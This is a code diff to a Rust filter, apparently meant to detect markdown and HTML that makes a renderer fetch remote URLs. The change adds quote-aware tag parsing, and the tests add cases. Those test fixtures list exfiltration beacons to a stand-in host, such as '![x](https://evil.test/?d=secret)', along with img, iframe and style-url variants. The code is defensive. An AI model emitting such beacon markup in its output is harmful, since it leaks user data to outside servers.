@@ -64,7 +64,7 @@ impl Autofetch {
                     self.held = from.to_owned();
                     return out;
                 }
-                Construct::Open if from.contains("//") => (from.len(), String::new()),
+                Construct::Open if may_load(from) => (from.len(), String::new()),
                 Construct::Open | Construct::Nothing => (0, String::new()),
             };
             let (markup, after) = match from.split_at_checked(len) {
@@ -153,7 +153,7 @@ fn tag(from: &str) -> Construct {
     if name.is_empty() {
         return Construct::Nothing;
     }
-    match from.find('>') {
+    match tag_end(from) {
         None => Construct::Open,
         Some(end) if !TAGS.contains(&name.as_str()) && !has_style_url(from, end) => Construct::Nothing,
         Some(end) => {
@@ -170,6 +170,33 @@ fn tag(from: &str) -> Construct {
             }
         }
     }
+}
+
+/// Where the tag at the start of `from` ends. A `>` in a quoted value does not end it; a quote counts after `=` only.
+fn tag_end(from: &str) -> Option<usize> {
+    let (mut quote, mut last) = (None, b' ');
+    for (at, byte) in from.bytes().enumerate() {
+        match (quote, byte) {
+            (Some(open), _) if byte == open => quote = None,
+            (None, b'"' | b'\'') if last == b'=' => quote = Some(byte),
+            (None, b'>') => return Some(at),
+            _ => {}
+        }
+        if !byte.is_ascii_whitespace() {
+            last = byte;
+        }
+    }
+    None
+}
+
+/// Whether a construct that never closes could load something: a browser closes it at the end.
+fn may_load(from: &str) -> bool {
+    if !from.contains("//") {
+        return false;
+    }
+    let Some(tag) = from.strip_prefix('<') else { return true };
+    let name: String = tag.chars().take_while(char::is_ascii_alphanumeric).collect();
+    TAGS.contains(&name.to_ascii_lowercase().as_str()) || has_style_url(from, from.len())
 }
 
 fn has_style_url(from: &str, end: usize) -> bool {
@@ -226,7 +253,7 @@ mod tests {
         (out, state.found)
     }
 
-    const BEACONS: [&str; 10] = [
+    const BEACONS: [&str; 12] = [
         "![x](https://evil.test/?d=secret)",
         "![](//evil.test/a)",
         "![a [nested] b](<https://evil.test/a b>)",
@@ -234,6 +261,8 @@ mod tests {
         "<img src=\"https://evil.test/a\">",
         "<IMG alt=x src='//evil.test/a' />",
         "<iframe src=https://evil.test/ >",
+        "<img alt=\">\" src=\"//evil.test/a\">",
+        "<p title = '>' style='background:url(//evil.test/a)'>",
         "<link rel=prefetch href=\"https://evil.test/a\">",
         "<div style=\"background:url(https://evil.test/a)\">",
         "<img src=\"https://ok.example.org/\" srcset=\"https://evil.test/a\">",
@@ -259,6 +288,7 @@ mod tests {
             "<p>text</p> <b>bold</b> [1] and [x]: y",
             "![",
             "<im",
+            "if a <b // a note of the author's, to the end",
             "!",
             "[r]:",
             "# title\n- [ ] todo\n- [x] done",
